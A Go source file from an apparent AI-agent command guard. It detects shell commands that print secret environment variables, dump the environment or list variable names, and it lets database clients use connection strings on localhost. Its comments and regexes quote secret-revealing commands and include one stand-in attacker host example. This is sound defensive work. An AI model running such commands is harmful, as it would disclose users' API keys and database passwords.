package heuristic

import (
	"regexp"
	"strings"

	"github.com/parallax/parallax/shell"
)

// This file judges what a command reveals of the environment: a secret
// variable printed to the agent (MITRE ATT&CK T1552.001/T1552.007,
// OWASP LLM02 sensitive information disclosure), the whole environment
// dumped (the environment of an agent holds its keys), and connection
// strings handed to their own database clients (routine).

// matchEnvSecretPrint fires when the value of a secret-named variable
// reaches the command's standard output: "echo $OPENAI_API_KEY",
// "printenv GITHUB_TOKEN", "printf '%s' $AWS_SECRET_ACCESS_KEY | base64".
// Output read by the agent goes to its model provider: a secret printed
// is a secret disclosed.
func matchEnvSecretPrint(in *Input) (string, bool) {
	if in.Effects == nil {
		return "", false
	}
	for _, name := range in.Effects.Printed {
		if printedSecret(name) {
			return "$" + name + " printed", true
		}
	}
	for _, e := range in.Effects.Execs {
		if isInterpreter(e.Name) {
			for _, a := range e.Args {
				if !mentionsEnv(a) {
					continue
				}
				for _, m := range envPrintCode.FindAllStringSubmatch(a, 4) {
					if name := firstNonEmpty(m[1:]); printedSecret(name) {
						return "$" + name + " printed by " + e.Name + " code", true
					}
				}
			}
		}
		if (e.Name == "declare" || e.Name == "typeset") && len(e.Args) > 1 && strings.HasPrefix(e.Args[0], "-") &&
			strings.Contains(e.Args[0], "p") {
			for _, name := range e.Args[1:] {
				if printedSecret(name) {
					return "$" + name + " printed by " + e.Name, true
				}
			}
		}
	}
	return "", false
}

// envPrintCode finds interpreters' inline code printing one variable:
// print(os.environ["X"]), print(os.getenv("X")), console.log(process.env.X).
var envPrintCode = regexp.MustCompile(`(?:print|pprint)\s*\(\s*os\.(?:environ\[\s*['"](\w+)['"]\s*\]|` +
	`(?:environ\.get|getenv)\(\s*['"](\w+)['"])|console\.(?:log|error|dir)\(\s*process\.env(?:\.(\w+)|\[\s*['"](\w+)['"]\s*\])\s*\)|` +
	`\b(?:puts|p)\s*\(?\s*ENV\[\s*['"](\w+)['"]\s*\]|print\s*\(?\s*\$ENV\{\s*['"]?(\w+)`)

// mentionsEnv reports whether code may match envPrintCode or envDumpCode:
// every branch of both names the environment as "env" (os.environ,
// os.getenv, process.env) or "ENV" (ENV[...], %ENV, $ENV{...}). The
// regular expressions cost tens of microseconds on a long awk or perl
// program; this check costs one pass of a byte search.
func mentionsEnv(code string) bool {
	return strings.Contains(code, "env") || strings.Contains(code, "ENV")
}

func firstNonEmpty(list []string) string {
	for _, s := range list {
		if s != "" {
			return s
		}
	}
	return ""
}

// secretMetaWords end variable names that describe a secret without
// holding it: KEY_COUNT, TOKEN_TTL, SECRET_NAME, API_KEY_FILE (a path).
var secretMetaWords = map[string]bool{"COUNT": true, "LEN": true, "LENGTH": true, "NAME": true,
	"NAMES": true, "FILE": true, "PATH": true, "DIR": true, "TYPE": true, "SIZE": true, "TTL": true,
	"EXPIRY": true, "EXPIRES": true, "ALGO": true, "ALGORITHM": true, "FORMAT": true, "HEADER": true,
	"PREFIX": true, "ENABLED": true, "REQUIRED": true, "VERSION": true, "MIN": true, "MAX": true}

// printedSecret reports a secret-named variable whose value is the secret
// itself (not its count, name or file path).
func printedSecret(name string) bool {
	if isConnSecret(name) {
		return true
	}
	if !isSecretVar(name) {
		return false
	}
	n := strings.ToUpper(name)
	last := n[strings.LastIndexByte(n, '_')+1:]
	return !secretMetaWords[last] || !strings.Contains(n, "_")
}

// envDumpCode finds interpreters' inline code printing the whole
// environment: print(os.environ), console.log(process.env), p ENV (not
// one variable of it: puts ENV["HOME"], puts ENV.fetch("X")).
var envDumpCode = regexp.MustCompile(`(?:print|pprint|json\.dumps?)\s*\(\s*(?:dict\s*\(\s*)?os\.environ\s*\)|` +
	`console\.(?:log|dir|error)\s*\(\s*(?:JSON\.stringify\s*\(\s*)?process\.env\s*[),]|` +
	`\b(?:p|pp|puts)\s+ENV(?:\.to_h)?(?:[^\w\[.]|$)|print\s+%ENV|Dumper\s*\(\s*\\%ENV`)

// matchEnvDump fires on commands that print the whole environment: env,
// printenv, set, export -p, declare -x with no operand, whole or through
// a filter that can keep any variable (grep -i key, sort), or an
// interpreter printing os.environ / process.env. The agent's environment
// holds its API keys; a dump is a read of every one of them. A dump
// filtered on one literal non-secret name (env | grep ^PATH), consumed
// (source <(export | sed ...), x=$(env | grep X)) or reduced to names
// is not.
func matchEnvDump(in *Input) (string, bool) {
	fx := in.Effects
	if fx == nil {
		return "", false
	}
	if fx.EnvDump {
		return "environment printed", true
	}
	for _, e := range fx.Execs {
		if !isInterpreter(e.Name) {
			continue
		}
		for _, a := range e.Args {
			if mentionsEnv(a) && envDumpCode.MatchString(a) {
				return "environment printed by " + e.Name + " code", true
			}
		}
	}
	return "", false
}

// envNamesExp is ${!PREFIX*} / ${!PREFIX@}: the names of the variables
// starting with PREFIX.
var envNamesExp = regexp.MustCompile(`\$\{![A-Za-z_][A-Za-z0-9_]*[*@]\}`)

// matchEnvNames fires on listings of variable names (compgen -v/-e,
// ${!AWS*}): they reveal which credentials exist, not their values;
// whether that is reconnaissance (T1082) or debugging is intent.
func matchEnvNames(in *Input) (string, bool) {
	if in.Effects == nil {
		return "", false
	}
	if in.Effects.EnvNames {
		return "variable names printed", true
	}
	for _, e := range in.Effects.Execs {
		if e.Name == "compgen" && len(e.Args) == 1 && (e.Args[0] == "-v" || e.Args[0] == "-e") {
			return "variable names listed by compgen", true
		}
	}
	if envNamesExp.MatchString(commandText(in)) {
		return "variable names listed by ${!...}", true
	}
	return "", false
}

// dbClients take a connection string as an argument and talk to the
// server it names.
var dbClients = map[string]bool{"psql": true, "pg_dump": true, "pg_dumpall": true,
	"pg_restore": true, "pg_isready": true, "pgcli": true, "mysql": true, "mysqldump": true,
	"mariadb": true, "mycli": true, "redis-cli": true, "valkey-cli": true, "mongosh": true,
	"mongo": true, "mongodump": true, "mongorestore": true, "mongoexport": true,
	"mongoimport": true, "sqlcmd": true, "clickhouse-client": true, "cqlsh": true, "usql": true,
	"dbmate": true, "migrate": true, "atlas": true, "liquibase": true, "flyway": true,
	"sqlx": true, "diesel": true, "goose": true}

// connStringArg reports a connection string or password handed to a
// database client that talks to the server it names: "psql
// $DATABASE_URL", "PGPASSWORD=$DB_PASSWORD psql -h localhost". The value
// is meant for that server. A client given another host as well (psql
// $DATABASE_URL -h db.attacker.example) is not exempt, nor is a password
// sent to a host other than the loopback.
func connStringArg(in *Input, f *shell.Flow, host string) bool {
	if f.Kind != shell.SourceEnv || host != "" || !dbClients[f.Program] {
		return false
	}
	h, ok := dbClientHost(in.Effects, f.Program)
	if !ok {
		return false
	}
	if h == "" {
		return isConnVar(f.Source) || !strings.Contains(commandText(in), "://")
	}
	return h == "localhost" || h == "127.0.0.1" || h == "::1"
}

// dbClientHost returns the host a database client is given with
// -h/--host (or "" without one); ok is false when it cannot be known.
func dbClientHost(fx *shell.Effects, prog string) (host string, ok bool) {
	for _, e := range fx.Execs {
		if e.Name != prog {
			continue
		}
		for i, a := range e.Args {
			switch {
			case a == "-h" || a == "--host" || a == "-H":
				if i+1 >= len(e.Args) || e.Args[i+1] == "" {
					return "", false
				}
				return e.Args[i+1], true
			case strings.HasPrefix(a, "--host="):
				return strings.TrimPrefix(a, "--host="), a != "--host="
			case strings.HasPrefix(a, "-h") && len(a) > 2 && !strings.HasPrefix(a, "-help"):
				return a[2:], true
			}
		}
		return "", true
	}
	return "", false
}

// datastoreWords start the names of connection strings that carry a
// password (redis://:pw@host, mongodb://user:pw@host): REDIS_URL,
// MONGO_URI, PG_URL. Search and HTTP endpoints (ELASTICSEARCH_URL) are
// addresses, used as such, not secrets.
var datastoreWords = map[string]bool{"DATABASE": true, "DB": true, "REDIS": true, "MONGO": true,
	"MONGODB": true, "POSTGRES": true, "POSTGRESQL": true, "PG": true, "MYSQL": true, "MARIADB": true,
	"AMQP": true, "RABBITMQ": true, "CELERY": true, "BROKER": true, "VALKEY": true, "MEMCACHED": true}

// isConnSecret reports a datastore connection string (REDIS_URL,
// MONGO_URI, TEST_DATABASE_URL): it holds the server's password.
func isConnSecret(name string) bool {
	if !isConnVar(name) {
		return false
	}
	for _, w := range strings.Split(strings.ToUpper(name), "_") {
		if datastoreWords[w] {
			return true
		}
	}
	return false
}

// isConnVar reports a variable named as a connection string.
func isConnVar(name string) bool {
	n := strings.ToUpper(name)
	return strings.HasSuffix(n, "_URL") || strings.HasSuffix(n, "_URI") ||
		strings.HasSuffix(n, "_DSN") || strings.HasSuffix(n, "_CONNECTION_STRING")
}
